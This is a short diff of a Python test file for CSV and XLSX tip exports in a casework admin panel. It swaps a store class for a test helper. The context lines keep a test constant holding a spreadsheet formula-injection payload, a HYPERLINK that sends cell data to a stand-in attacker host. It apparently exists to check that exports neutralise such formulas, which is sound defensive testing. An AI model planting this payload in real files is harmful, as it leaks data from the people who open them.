@@ -17,9 +17,8 @@ from sqlalchemy import select
 from admin.export import text_cell
 from handlers import casework as cases
 from handlers.deadlines import local_date
-from storage.casework import SqlCaseStore
 from storage.models import AuditLog
-from tests.panel.conftest import COMMUNE_A, COMMUNE_B, COMMUNE_C, StoredTip, World
+from tests.panel.conftest import COMMUNE_A, COMMUNE_B, COMMUNE_C, StoredTip, World, case_store
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 ROUTES = ("/admin/tips/export.csv", "/admin/tips/export.xlsx")
@@ -129,7 +128,7 @@ async def test_times_are_vietnam_time(world: World) -> None:
     if moment > datetime.now(UTC):
         moment -= timedelta(days=1)
     async with world.session() as session:
-        await cases.acknowledge(SqlCaseStore(session), world.users["officer_a"], tip.id, now=moment)
+        await cases.acknowledge(case_store(session), world.users["officer_a"], tip.id, now=moment)
         await session.commit()
     client = await world.client("officer_a")
     (row,) = read_csv(await client.get("/admin/tips/export.csv"))
